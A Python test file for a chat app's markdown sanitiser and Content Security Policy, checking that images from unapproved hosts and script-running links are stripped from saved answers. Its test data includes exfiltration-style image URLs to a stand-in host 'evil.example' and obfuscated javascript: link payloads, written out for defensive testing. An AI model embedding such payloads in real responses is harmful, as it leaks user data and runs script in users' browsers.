"""Markdown exfiltration (issue 16): what a saved answer may still make a browser load or run."""

from __future__ import annotations

import pytest

from parley.safety.markdown import image_host, neutralise_markdown, runs_script
from parley.web.spa import content_security_policy

ALLOWED = ["images.example.com"]


def clean(text: str) -> str:
    return neutralise_markdown(text, image_hosts=ALLOWED)


class TestImages:
    def test_an_image_from_another_host_is_replaced_by_a_note_naming_it(self) -> None:
        assert clean("Done. ![x](https://evil.example/?q=secret)") == "Done. [image from evil.example removed]"

    def test_images_from_allowed_hosts_and_this_app_stay(self) -> None:
        text = '![a](https://images.example.com/a.png) ![b](/api/v1/files/1/content "mine")'
        assert clean(text) == text

    @pytest.mark.parametrize(
        "url",
        [
            "HTTPS://user@Evil.Example:8443/a",
            "//evil.example/b",
            "https:evil.example/c",
            "https:\\\\evil.example/d",
            "<https://evil.example/e f>",
            "https://evil.example/x?(q)=1",
            "https://evil.example/x?u=https://images.example.com/a.png",
        ],
    )
    def test_tricks_that_browsers_still_fetch_from_the_other_host(self, url: str) -> None:
        assert clean(f"![x]({url})") == "[image from evil.example removed]"

    def test_an_image_of_no_host_at_all_is_removed(self) -> None:
        assert clean("![x](data:image/png;base64,AAAA)") == "[image removed]"

    def test_reference_style_images_follow_their_definition(self) -> None:
        text = "![a][leak] ![Leak] ![ok][ok]\n\n[leak]: https://evil.example/x?q=1\n[ok]: https://images.example.com/o.png\n"
        assert clean(text).splitlines()[0] == (
            "[image from evil.example removed] [image from evil.example removed] ![ok][ok]"
        )

    def test_raw_html_images_are_removed_too(self) -> None:
        assert clean('<img src="https://evil.example/p.png" alt="">') == "[image from evil.example removed]"
        assert clean("<IMG SRC=https://images.example.com/p.png>") == "<IMG SRC=https://images.example.com/p.png>"

    def test_no_hosts_allowed_by_default(self) -> None:
        assert neutralise_markdown("![x](https://images.example.com/a.png)") == (
            "[image from images.example.com removed]"
        )


class TestLinks:
    @pytest.mark.parametrize(
        "link",
        [
            "[a](JaVaScRiPt:alert(1))",
            "[a](  javascript:alert(1))",
            "[a](data:text/html;base64,PHNjcmlwdD4=)",
            "[a](vbscript:msgbox)",
            "[a](&#106;avascript:alert(1))",
            "[a](javascript&colon;alert(1))",
            "[a](<javascript:alert(1)>)",
            "[a](javascript\\:alert(1))",
        ],
    )
    def test_a_link_that_runs_script_becomes_its_text(self, link: str) -> None:
        assert clean(f"see {link} now") == "see a now"

    def test_a_scripted_reference_definition_is_dropped_so_its_links_are_text(self) -> None:
        assert "javascript" not in clean("[click][x]\n\n[x]: javascript:alert(1)\n")

    def test_scripted_autolinks_lose_their_brackets(self) -> None:
        assert clean("<javascript:alert(1)> <https://ok.example>") == "javascript:alert(1) <https://ok.example>"

    def test_ordinary_links_stay(self) -> None:
        text = "[docs](https://docs.example.com/a_(b)) [mail](mailto:a@example.com) [rel](/c/1)"
        assert clean(text) == text

    def test_an_image_inside_a_scripted_link_goes_with_it(self) -> None:
        assert clean("[![x](https://evil.example/a)](javascript:alert(1))") == "[image from evil.example removed]"


class TestCode:
    def test_fenced_code_is_left_as_written(self) -> None:
        text = "How to embed:\n```markdown\n![x](https://evil.example/a.png)\n[a](javascript:alert(1))\n```\n"
        assert clean(text) == text

    def test_tilde_fences_and_inline_code_too_and_prose_after_them_is_still_cleaned(self) -> None:
        text = "~~~\n![x](https://evil.example/a)\n~~~\nWrite `![x](https://evil.example/b)` but not ![y](https://evil.example/c)"
        assert clean(text) == (
            "~~~\n![x](https://evil.example/a)\n~~~\nWrite `![x](https://evil.example/b)` but not "
            "[image from evil.example removed]"
        )

    def test_an_unclosed_fence_runs_to_the_end(self) -> None:
        text = "```\n![x](https://evil.example/a)\n"
        assert clean(text) == text


def test_url_helpers() -> None:
    assert image_host("/a.png") is None and image_host("https://A.example./x") == "a.example"
    assert image_host("ftp://a.example/x") == "" and runs_script(" \x01JAVA\nSCRIPT:x")


def test_the_browser_itself_loads_images_only_from_the_allowed_hosts() -> None:
    directives = dict(
        part.strip().split(" ", 1) for part in content_security_policy(image_hosts=["images.example.com"]).split(";")
    )
    assert directives["img-src"] == "'self' https://images.example.com http://images.example.com data: blob:"
    assert dict(part.strip().split(" ", 1) for part in content_security_policy().split(";"))["img-src"] == (
        "'self' data: blob:"
    )
